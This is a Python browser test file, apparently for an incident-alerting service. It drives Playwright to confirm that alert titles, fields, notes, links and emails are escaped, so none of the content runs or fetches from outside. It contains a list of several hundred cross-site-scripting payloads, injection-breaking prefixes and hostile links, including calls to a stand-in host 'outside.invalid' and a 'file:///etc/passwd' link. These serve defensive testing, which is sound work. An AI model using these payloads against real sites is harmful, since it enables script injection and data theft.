"""What strangers write, in a real browser: none of it runs, calls anybody, or acts (TRUST C23-C25, D18).

The browser's own second wall, the policy that the pages carry, is switched off here: escaping has to be enough.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, Request

from tests.browser.looking import PATIENCE_MS
from tests.channels.hostile import message
from tests.patience import eventually
from tests.programs import KEY, Program, declare, incidents, running
from tocsin.channels.email import as_html

pytestmark = pytest.mark.browser

OUTSIDE = "outside.invalid"
PARTS = (
    "<script>fired({n})</script>", "<ScRiPt >fired({n})</sCrIpT>", "<script src=//outside.invalid/{n}.js></script>",
    "<img src=x onerror=fired({n})>", "<img/src/onerror=fired({n})>", "<img src=http://outside.invalid/{n}.png>",
    "<svg onload=fired({n})>", "<svg><script>fired({n})</script></svg>",
    "<svg><animate onbegin=fired({n}) attributeName=x>", "<iframe srcdoc='<script>parent.fired({n})</script>'>",
    "<iframe src=javascript:parent.fired({n})>", "<a href=javascript:fired({n})>x</a>",
    "<a href='data:text/html,<script>opener.fired({n})</script>'>x</a>", "[x](javascript:fired({n}))",
    "![](http://outside.invalid/{n}.png)", "<javascript:fired({n})>", "javascript:fired({n})",
    "<body onload=fired({n})>", "<details open ontoggle=fired({n})>", "<input autofocus onfocus=fired({n})>",
    "<video><source onerror=fired({n})></video>", "<audio src=x onerror=fired({n})>",
    "<object data=javascript:fired({n})>", "<embed src=http://outside.invalid/{n}>",
    "<base href=http://outside.invalid/>", "<meta http-equiv=refresh content='0;url=http://outside.invalid/{n}'>",
    "<link rel=stylesheet href=http://outside.invalid/{n}.css>",
    "<style>@import 'http://outside.invalid/{n}.css'</style>",
    "<p style='background:url(http://outside.invalid/{n})'>x</p>",
    "<form action=http://outside.invalid/><button>x</button></form>",
    "<div hx-get=http://outside.invalid/{n} hx-trigger=load>x</div>",
    "<div hx-on::load=fired({n}) hx-trigger=load>x</div>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=fired({n})&gt;'>",
    "<noscript><p title='</noscript><img src=x onerror=fired({n})>'>",
    "<template><script>fired({n})</script></template>", "&lt;script&gt;fired({n})&lt;/script&gt;",
    "&#60;script&#62;fired({n})&#60;/script&#62;", "%3Cscript%3Efired({n})%3C/script%3E",
    "\\u003cscript\\u003efired({n})\\u003c/script\\u003e", "\uff1cscript\uff1efired({n})\uff1c/script\uff1e",
    "{{{{constructor.constructor('fired({n})')()}}}}", "${{fired({n})}}",
    "x onmouseover=fired({n}) autofocus onfocus=fired({n}) y", "<scr\u0000ipt>fired({n})</script>",
    "<<script>fired({n})//<</script>",
)  # fmt: skip
# What stands before it, to leave where it was put.
BEFORE = ("", '">', "'>", "</p>", "</title>", "</textarea>", "</script>", "-->", "]]>", '" ', "' ", "\n")
PAYLOADS = [
    before + part.format(n=n) for n, (before, part) in enumerate((b, p) for b in BEFORE for p in PARTS)
]
FIELDS = 90  # of one alert
LINKS = (
    "javascript:fired(1)", "JaVaScRiPt:fired(2)", "java\tscript:fired(3)", " javascript:fired(4)", "file:///etc/passwd",
    "data:text/html,<script>opener.fired(5)</script>", "vbscript:fired(6)", "https://bank.example@outside.invalid/",
    "//outside.invalid/x", "http://outside.invalid/x",
)  # fmt: skip
# Everything in the page that could run or fetch, and is none of ours.
FOREIGN = """() => [...document.querySelectorAll('*')].filter(one =>
    [...one.attributes].some(each => each.name.startsWith('on') || each.name.startsWith('hx-on'))
    || (one.matches('script') && !(one.src || '').startsWith(location.origin) && one.type !== 'application/json')
    || one.matches('iframe, object, embed, base, audio, video, template, math, meta[http-equiv=refresh]')
    || (one.matches('style') && one.textContent.includes('outside'))
    || ['src', 'href', 'action', 'hx-get', 'hx-post', 'style', 'srcdoc'].some(name =>
        (one.getAttribute(name) || '').includes('outside.invalid') && !one.matches('a'))
).map(one => one.outerHTML.slice(0, 200))"""
STRANGE_LINKS = """() => [...document.querySelectorAll('a[href]')].filter(one =>
    !['http:', 'https:', 'mailto:', 'tel:'].includes(one.protocol) || one.username
    || (one.host !== location.host && one.protocol.startsWith('http')
        && !(one.relList.contains('noopener') && one.textContent.includes(one.hostname)))
).map(one => one.outerHTML.slice(0, 200))"""


@dataclass
class Watched:
    """A browser that tells of everything that ran and of every request that left."""

    context: BrowserContext
    ran: list[object] = field(default_factory=list)
    outside: list[str] = field(default_factory=list)


@pytest.fixture(scope="module")
def program(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Program]:
    """A program into which all of it was sent."""
    with running(tmp_path_factory.mktemp("hostile") / "data", "--demo") as one:
        declare(one)
        for begin in range(0, len(PAYLOADS), FIELDS):
            send(
                one,
                PAYLOADS[begin],
                {f"{text[:60]} {n}": text for n, text in enumerate(PAYLOADS[begin : begin + FIELDS])},
            )
        long = len(range(0, len(PAYLOADS), FIELDS))
        eventually(lambda: len(ours(one)) == long)  # or the small ones overtake them
        for text in PAYLOADS[:: len(PAYLOADS) // 40]:
            send(one, text, {})
        eventually(lambda: len(ours(one)) == long + len(PAYLOADS[:: len(PAYLOADS) // 40]))
        newest = ours(one)[0]
        for begin in range(0, len(PAYLOADS), FIELDS):
            note = "\n".join(PAYLOADS[begin : begin + 20])
            assert one.ask("POST", f"/api/v1/incidents/{newest}/notes", {"text": note[:4_000]})[0] < 300
        yield one


def ours(program: Program) -> list[int]:
    """The numbers of the incidents that were sent, the newest first."""
    return [one["number"] for one in incidents(program) if "shop" in str(one["service"])]


def send(program: Program, title: str, fields: dict[str, str]) -> None:
    event = {
        "routing_key": KEY,
        "event_action": "trigger",
        "client": title,
        "client_url": LINKS[0],
        "links": [{"href": link, "text": title} for link in LINKS],
        "images": [{"src": f"http://{OUTSIDE}/image.png", "href": LINKS[1], "alt": title}],
        "payload": {
            "summary": title, "severity": "critical", "source": title, "component": title, "group": title,
            "class": title, "custom_details": fields,
        },
    }  # fmt: skip
    status, said = program.ask("POST", "/v2/enqueue", event)
    assert status == 202, said


@pytest.fixture
def watched(program: Program, chromium: Browser, session: list[dict[str, object]]) -> Iterator[Watched]:
    """Signed in as the administrator."""
    one = Watched(chromium.new_context(base_url=program.address, bypass_csp=True))
    one.context.set_default_timeout(PATIENCE_MS)
    one.context.add_cookies(session)  # type: ignore[arg-type]
    own = urlsplit(program.address).netloc

    def fired(source: object, number: object) -> None:
        one.ran.append(number)

    def asked(request: Request) -> None:
        if urlsplit(request.url).netloc not in (own, ""):
            one.outside.append(request.url)

    one.context.expose_binding("fired", fired)
    one.context.on("request", asked)
    yield one
    one.context.close()


@pytest.fixture(scope="module")
def session(program: Program, chromium: Browser) -> list[dict[str, object]]:
    """The cookies of the administrator, who came in by the one-time link and its button."""
    context = chromium.new_context(base_url=program.address)
    page = context.new_page()
    assert program.sign_in_link is not None
    page.goto(urlsplit(program.sign_in_link).path)
    page.get_by_role("button").first.click()
    page.wait_for_url(lambda url: "/sign-in/" not in url)
    cookies = context.cookies()
    context.close()
    return [dict(cookie) for cookie in cookies]


def stir(page: Page) -> None:
    """Touch what is there, as a reader would, and let what was started come to its end."""
    page.mouse.move(200, 300)
    page.keyboard.press("Tab")
    page.mouse.wheel(0, 2_000)
    page.wait_for_load_state("load")
    page.evaluate("() => new Promise(done => requestAnimationFrame(() => setTimeout(done, 50)))")


def test_c23_none_of_five_hundred_payloads_runs_or_calls_anybody(program: Program, watched: Watched) -> None:
    assert len(PAYLOADS) >= 500
    page = watched.context.new_page()
    numbers = ours(program)
    with_fields = numbers[-len(range(0, len(PAYLOADS), FIELDS)) :]  # those came first
    places = ["/", "/incidents?state=all", "/console", "/report", "/incidents/new"]
    places += [f"/incidents/{number}" for number in (*with_fields, numbers[0])]
    shown, alerts = "", set()
    for place in places:
        page.goto(place)
        stir(page)
        assert page.evaluate(FOREIGN) == [], place
        assert page.evaluate(STRANGE_LINKS) == [], place
        shown += page.locator("body").inner_text() + page.content()
        if place.startswith("/incidents/"):
            alerts |= set(re.findall(r'href="(/alerts/\d+)"', page.content()))
    for place in sorted(alerts):
        page.goto(place)
        stir(page)
        assert page.evaluate(FOREIGN) == [], place
        assert page.evaluate(STRANGE_LINKS) == [], place
        shown += page.content()
    assert len(set(re.findall(r"fired\((\d+)\)", shown))) >= 300, "they are there to be read"
    assert watched.ran == []
    assert watched.outside == []


def test_c23_none_of_them_runs_in_a_letter(watched: Watched) -> None:
    page = watched.context.new_page()
    for begin in range(0, len(PAYLOADS), 40):
        some = PAYLOADS[begin : begin + 40]
        page.set_content(as_html(message(some[0], *some, note="\n".join(some[:10]))))
        page.evaluate("() => new Promise(done => setTimeout(done, 20))")
        assert (
            page.evaluate(FOREIGN.replace("|| (one.matches('style')", "|| (one.matches('img, svg, style')"))
            == []
        )
    assert watched.ran == []
    assert [url for url in watched.outside if OUTSIDE in url] == []


def test_d18_a_browser_that_opens_links_and_presses_nothing_acknowledges_nothing(
    program: Program, watched: Watched, chromium: Browser
) -> None:
    page = watched.context.new_page()
    page.goto("/console")
    before = {one["number"] for one in incidents(program) if one["state"] == "triggered"}
    links = sorted(set(re.findall(r"/a/[A-Za-z0-9_-]{40,}", page.content())))[:6]
    assert len(links) >= 3
    for n in range(300):
        method = ("GET", "HEAD", "GET", "OPTIONS")[n % 4]
        status, _, _ = program.raw(
            method, links[n % len(links)], headers={"User-Agent": "Barracuda Sentinel (EE)"}
        )
        assert status in (200, 405)
    stranger = chromium.new_context(base_url=program.address)
    stranger.set_default_timeout(PATIENCE_MS)
    for link in links:
        opened = stranger.new_page()
        opened.goto(link)
        stir(opened)
        opened.evaluate("link => fetch(link).then(got => got.text())", link)
        assert opened.locator("form button").count() >= 1
        opened.close()
    stranger.close()
    assert {one["number"] for one in incidents(program) if one["state"] == "triggered"} >= before
